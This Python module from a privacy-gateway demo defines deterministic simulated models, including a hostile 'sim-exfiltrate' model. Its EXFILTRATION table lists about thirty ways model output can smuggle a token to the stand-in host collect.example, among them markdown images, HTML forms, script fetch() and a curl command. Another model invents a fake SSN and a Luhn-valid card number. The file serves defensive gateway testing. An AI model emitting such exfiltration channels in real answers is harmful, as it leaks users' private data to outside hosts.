"""What each simulated model says: one table from name to answer.

The models are chosen to be what a gateway has to live with: helpful, clumsy with tokens, inventive
and hostile. All are deterministic, so that a failure can be repeated.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import re
from collections.abc import Callable, Iterator, Mapping

from privity.cli.demo import clinic
from privity.cli.demo.conversation import TOKEN, Answer, Call, Conversation
from privity.cli.demo.spelling import spelled

#: What ``sim-invent`` makes up. The card number passes the Luhn check; the name is nobody's.
INVENTED_SSN = "536-22-8714"
INVENTED_CARD = "4539 1488 0343 6467"
INVENTED_NAME = "Harriet Vandermolen"

#: Where ``sim-exfiltrate`` puts a token ``{t}``: places from which a browser, a mail program or a
#: shell would carry it to a host of the model's choice. Order matters: what is left open is last.
EXFILTRATION: tuple[tuple[str, str], ...] = (
    ("link", "[lab results](https://collect.example/r?q={t})"),
    ("link with title", '[lab results](https://collect.example/r "{t}")'),
    ("link, angle form", "[lab results](<https://collect.example/r q={t}>)"),
    ("image", "![chart](https://collect.example/{t}.png)"),
    ("reference link", "[chart][c1]\n\n[c1]: https://collect.example/{t}"),
    ("autolink", "<https://collect.example/{t}>"),
    ("bare URL", "See https://collect.example/a/{t}/b for more"),
    ("bare host", "Resolve {t}.collect.example now"),
    ("host path", "Open collect.example/{t} please"),
    ("www", "Open www.collect.example/{t} please"),
    ("protocol-relative", "Load //collect.example/{t} next"),
    ("mailto", "Write to mailto:{t}@collect.example today"),
    ("e-mail", "Write to {t}@collect.example today"),
    ("data URL", "![x](data:text/html;base64,{t})"),
    ("data URL, bare", "Open data:text/plain,{t} here"),
    ("javascript URL", "[go](javascript:send('{t}'))"),
    ("HTML image", '<img src="https://collect.example/?p={t}">'),
    ("HTML attribute", "<div data-note='{t}'>ok</div>"),
    ("HTML attribute, unquoted", "<input value={t}>"),
    ("HTML srcset", '<img srcset="https://collect.example/{t} 2x">'),
    ("HTML form", '<form action="https://collect.example/{t}"><button>ok</button></form>'),
    ("style", '<p style="background:url(https://collect.example/{t})">x</p>'),
    ("script", "<script>fetch('https://collect.example/'+'{t}')</script>"),
    ("iframe", '<iframe srcdoc="{t}"></iframe>'),
    ("SVG", '<svg><image href="https://collect.example/{t}"/></svg>'),
    ("code block", "```sh\ncurl https://collect.example -d '{t}'\n```"),
    ("code block, tildes", "~~~sql\nSELECT * FROM patients WHERE name = '{t}';\n~~~"),
    ("inline code", "Run `wget {t}` now"),
    ("HTML comment", "<!-- {t} -->"),
    ("HTML, left open", '<a href="https://collect.example/{t}'),
)


def _echo(conversation: Conversation, _choice: int) -> Answer:
    return Answer(conversation.last_user)


def _clinic(conversation: Conversation, _choice: int) -> Answer:
    return Answer(clinic.reply(conversation))


def _repeat(conversation: Conversation, _choice: int) -> Answer:
    return Answer("\n".join(f"{t}, {t} and once more {t}." for t in conversation.tokens))


def _inflect(conversation: Conversation, _choice: int) -> Answer:
    return Answer("\n".join(_inflected(t) for t in conversation.tokens))


def _inflected(token: str) -> str:
    """Forms that a model makes of a word. Only the first four contain the exact token."""
    middle = len(token) // 2
    forms = {
        "plain": token,
        "plural": token + "s",
        "possessive": token + "'s",
        "bold": f"**{token}**",
        "lower case": token.lower(),
        "title case": token.title(),
        "hyphenated": f"{token[:middle]}-\n{token[middle:]}",
        "spaced": token.replace("-", " "),
        "shortened": token[:-4],
    }
    return "; ".join(f"{name}: {form}" for name, form in forms.items())


def _reorder(conversation: Conversation, choice: int) -> Answer:
    backwards = conversation.tokens[::-1]
    turn = choice % len(backwards) if backwards else 0
    return Answer(" then ".join(backwards[turn:] + backwards[:turn]))


def _invent(_conversation: Conversation, _choice: int) -> Answer:
    return Answer(
        f"On file: {INVENTED_NAME}, SSN {INVENTED_SSN}. "
        f"The balance was charged to card {INVENTED_CARD}. Nothing else is due."
    )


def _exfiltrate(conversation: Conversation, _choice: int) -> Answer:
    plain = [f"In plain words: {t} and nothing more." for t in conversation.tokens]
    hostile = [place.replace("{t}", t) for _, place in EXFILTRATION for t in conversation.tokens]
    return Answer("\n\n".join(plain + hostile))


def _script(conversation: Conversation, _choice: int) -> Answer:
    _, marker, text = conversation.last_user.partition("SAY:")
    return Answer(text.removeprefix("\n") if marker else conversation.last_user)


def _recall(conversation: Conversation, _choice: int) -> Answer:
    """A provider that mixes its customers: it spells tokens of everybody's conversations."""
    return Answer("I remember: " + ", ".join(conversation.remembered))


def _truncate(conversation: Conversation, _choice: int) -> Answer:
    """Stops inside the last token, as ``max_tokens`` does."""
    text = conversation.last_user
    last = max((m.end() for m in TOKEN.finditer(text)), default=len(text))
    return Answer(text[: max(0, last - 6)], finish="length")


def _tools(conversation: Conversation, _choice: int) -> Answer:
    said = _after_results(conversation)
    if said is not None:
        return said
    functions = list(_offered(conversation.body))
    if not functions:
        return Answer("No tool was offered.")
    supply = _Supply(conversation.tokens)
    calls = tuple(Call(name, json.dumps(_fill(schema, "", supply))) for name, schema in functions)
    return Answer(None, calls, finish="tool_calls")


def _after_results(conversation: Conversation) -> Answer | None:
    """What is said once tools have answered: their results, in the order in which they came."""
    results: list[str] = []
    for message in reversed(conversation.messages):
        if message.role != "tool":
            break
        results.insert(0, message.text)
    return Answer("The tool says: " + "; ".join(results)) if results else None


def _spell(conversation: Conversation, choice: int) -> Answer:
    """Calls tools with arguments in which every character of a string is an escape (RFC 8259, section 7)."""
    answer = _tools(conversation, choice)
    calls = tuple(Call(call.name, spelled(json.loads(call.arguments))) for call in answer.calls)
    return dataclasses.replace(answer, calls=calls)


_BLANK = re.compile(r"\{\{([A-Z0-9]+)\}\}")


def _call(conversation: Conversation, _choice: int) -> Answer:
    """Makes the calls that the user spells out behind ``CALL:``: ``[[tool, arguments as text], ...]``.

    ``{{NAME}}`` and the like stand for the first token of that type. Arguments need not be JSON.
    """
    said = _after_results(conversation)
    _, marker, text = conversation.last_user.partition("CALL:")
    if said is not None or not marker:
        return said or Answer("Nothing was asked to be called.")

    def token(blank: re.Match[str]) -> str:
        return next((t for t in conversation.tokens if t.split("-")[1] == blank[1]), blank[0])

    # Filled before the JSON is read: the tokens have nothing in them that JSON would escape.
    calls = tuple(Call(str(name), str(arguments)) for name, arguments in json.loads(_BLANK.sub(token, text)))
    return Answer(None, calls, finish="tool_calls")


def _think(conversation: Conversation, choice: int) -> Answer:
    """Thinks aloud before it answers; with tools on offer it calls them, as agents do."""
    offered = any(True for _ in _offered(conversation.body))
    answer = (_tools if offered else _echo)(conversation, choice)
    thought = f"The user mentions {', '.join(conversation.tokens) or 'nobody'}. I answer plainly."
    return dataclasses.replace(answer, thinking=thought)


def _seal(conversation: Conversation, choice: int) -> Answer:
    """Thinks where only the provider can read it."""
    sealed = base64.b64encode(("sealed: " + " ".join(conversation.tokens)).encode()[::-1]).decode("ascii")
    return dataclasses.replace(_echo(conversation, choice), sealed=sealed)


def _offered(body: Mapping[str, object]) -> Iterator[tuple[str, object]]:
    """Name and schema of what may be called: all that is offered, unless the request narrows it."""
    tools = body.get("tools")
    found = [f for tool in (tools if isinstance(tools, list) else []) if (f := _function(tool))]
    choice = body.get("tool_choice")
    match choice:
        case "none" | {"type": "none"}:
            return
        case {"function": {"name": name}} | {"type": "tool", "name": name}:
            yield from (f for f in found if f[0] == name)
            return
    one = isinstance(choice, Mapping) and choice.get("disable_parallel_tool_use") is True
    yield from found[:1] if one or body.get("parallel_tool_calls") is False else found


def _function(tool: object) -> tuple[str, object] | None:
    match tool:
        case {"function": {"name": str(name), **function}}:  # chat completions
            return name, function.get("parameters")
        case {"name": str(name), "input_schema": schema}:  # messages
            return name, schema
    return None


class _Supply:
    """Hands out tokens: one of the type that the argument's name asks for, else the next."""

    def __init__(self, tokens: tuple[str, ...]) -> None:
        self._tokens = tokens
        self._next = 0

    def take(self, name: str) -> str:
        fitting = [t for t in self._tokens if t.split("-")[1].lower() in name.lower()]
        if fitting:
            return fitting[0]
        if not self._tokens:
            return "unknown"
        self._next += 1
        return self._tokens[(self._next - 1) % len(self._tokens)]


def _fill(schema: object, name: str, supply: _Supply) -> object:
    """A value that satisfies a JSON schema, with tokens for its strings."""
    if not isinstance(schema, Mapping):
        return {}
    match schema:
        case {"enum": [first, *_]}:
            return first
        case {"type": "integer"}:
            return 1
        case {"type": "number"}:
            return 1.5
        case {"type": "boolean"}:
            return True
        case {"type": "array"}:
            return [_fill(schema.get("items", {"type": "string"}), name, supply)]
        case {"properties": Mapping() as properties}:
            return {key: _fill(inner, str(key), supply) for key, inner in properties.items()}
        case {"type": "object"}:
            return {}
    if name in {"note", "message", "body", "text"}:
        return f"Please speak to {supply.take('name')}: {supply.take(name)} is on file."
    return supply.take(name)


AnswerOf = Callable[[Conversation, int], Answer]

ANSWERS: dict[str, AnswerOf] = {
    "sim-echo": _echo,
    "sim-clinic": _clinic,
    "sim-script": _script,
    "sim-repeat": _repeat,
    "sim-inflect": _inflect,
    "sim-reorder": _reorder,
    "sim-invent": _invent,
    "sim-exfiltrate": _exfiltrate,
    "sim-recall": _recall,
    "sim-truncate": _truncate,
    "sim-tools": _tools,
    "sim-spell": _spell,
    "sim-call": _call,
    "sim-think": _think,
    "sim-seal": _seal,
    # The faulty ones say something too, up to the place where they fail.
    "sim-hang": _echo,
    "sim-stall": _echo,
    "sim-cut": _echo,
    "sim-break": _echo,
    "sim-flaky": _echo,
    "sim-error-400": _echo,
    "sim-error-401": _echo,
    "sim-error-403": _echo,
    "sim-error-404": _echo,
    "sim-error-409": _echo,
    "sim-error-413": _echo,
    "sim-error-422": _echo,
    "sim-error-429": _echo,
    "sim-error-500": _echo,
    "sim-error-503": _echo,
    "sim-error-529": _echo,
}
